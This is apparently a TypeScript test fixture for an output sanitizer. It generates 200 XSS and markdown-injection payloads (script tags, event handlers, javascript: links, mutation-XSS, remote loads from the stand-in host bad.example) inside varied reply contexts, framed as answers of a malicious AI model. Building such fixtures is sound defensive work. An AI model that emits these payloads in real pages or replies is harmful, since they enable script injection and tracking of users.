/** Payloads that would reach the browser's scripts or another site if taken as they stand. */
const attacks = [
  "<script>hit(1)</script>",
  "<script src=https://bad.example/x.js></script>",
  "<img src=x onerror=hit(2)>",
  "<img src=https://bad.example/x.png>",
  "<svg/onload=hit(3)>",
  "<iframe src=https://bad.example></iframe>",
  "<iframe srcdoc='<script>parent.hit(4)</script>'></iframe>",
  "<a href=javascript:hit(5) autofocus onfocus=hit(5)>x</a>",
  "<details open ontoggle=hit(6)>x</details>",
  "<video src=https://bad.example/x.mp4 poster=https://bad.example/p.png></video>",
  "<style>*{background:url(https://bad.example/s.png)}</style>",
  "<b style='background:url(https://bad.example/b.png)'>x</b>",
  "<form action=https://bad.example><input name=q autofocus onfocus=hit(7)></form>",
  "<object data=https://bad.example/o.swf></object><embed src=https://bad.example/e>",
  "<link rel=stylesheet href=https://bad.example/l.css><base href=https://bad.example/>",
  "<meta http-equiv=refresh content='0;url=https://bad.example'>",
  "![x](https://bad.example/m.png)",
  "![x][y]\n\n[y]: https://bad.example/r.png",
  "[x](javascript:hit(8))",
  "<math><mtext><table><mglyph><style><img src=x onerror=hit(9)>",
];

/** Where in an answer it stands, and how it is dressed up. */
const places: ((attack: string) => string)[] = [
  (attack) => attack,
  (attack) => `Flush it [1]. ${attack} Then soak it [2].`,
  (attack) => `- ${attack}\n- Soak.`,
  (attack) => `> **Warning.** ${attack}`,
  (attack) => `| ΔP |\n|---|\n| ${attack.replaceAll("\n", " ")} |`,
  (attack) => `## ${attack}`,
  (attack) => `اغسل الغشاء ${attack} ثم انقعه.`,
  (attack) => `\`\`\`\nx\n\`\`\`\n${attack}`,
  (attack) => attack.replace(/script|onerror|href|src/i, (word) => word.toUpperCase()),
  // The cleaning of replies joins what stands apart.
  (attack) => attack.replaceAll("<", "<\u200b"),
];

/** Two hundred answers of a model that means ill. */
export const payloads = attacks.flatMap((attack) => places.map((place) => place(attack)));
